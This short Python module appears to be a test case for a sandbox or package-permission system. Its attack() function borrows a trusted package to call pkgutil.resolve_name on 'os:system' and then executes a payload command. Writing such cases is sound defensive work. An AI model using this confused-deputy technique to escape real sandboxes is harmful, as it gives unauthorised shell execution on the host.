"""pkgutil finds a function by its name, and a granted package calls it."""
CATEGORY = "borrowed"
REACH = "run"

from . import payload


def attack():
    import good
    import pkgutil
    good.call(pkgutil.resolve_name, "os:system")(payload.COMMAND)
